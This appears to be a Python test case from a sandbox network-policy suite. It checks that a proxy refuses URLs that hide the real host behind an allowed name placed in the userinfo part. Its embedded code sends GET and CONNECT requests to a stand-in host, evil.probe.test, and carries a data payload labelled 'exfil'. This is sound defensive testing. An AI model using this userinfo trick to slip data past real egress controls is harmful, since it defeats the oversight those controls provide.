from ._net import ALLOW, PROXY

ID = "net.userinfo"
CATEGORY = "network"
DESCRIPTION = "absolute URL http://sink.probe.test:P@evil.probe.test:P/ (the allowed name as userinfo), for GET and CONNECT"
CLAIMS = ("rule:network.mode",)
POLICY = ALLOW
CODE = PROXY + """
fake = f"sink.{DOMAIN}:{SINK_PORT}@evil.{DOMAIN}:{SINK_PORT}"
judge_reply("GET http://sink@evil/", proxy_send(
    f"GET http://{fake}/x?d={DATA} HTTP/1.1\\r\\nHost: evil.{DOMAIN}:{SINK_PORT}\\r\\n"
    f"Connection: close\\r\\n\\r\\n".encode()))
judge_reply("CONNECT sink@evil", proxy_send(
    f"CONNECT {fake} HTTP/1.1\\r\\nHost: {fake}\\r\\n\\r\\n".encode(),
    then=("exfil " + DATA + "\\r\\n\\r\\n").encode()))
"""
# the proxy refuses "@" in any host whatever the rules say, so the control is where the
# URL really points, evil.probe.test, with that name allowed
CONTROL = {"code": PROXY + 'get(f"evil.{DOMAIN}:{SINK_PORT}")\n', "where": "sandbox",
           "policy": {"network": {"allow": ["*.{DOMAIN}:{SINK_PORT}"]}}}
CONTAINED = "the userinfo never stands for the host: both requests are refused and the sink receives nothing"
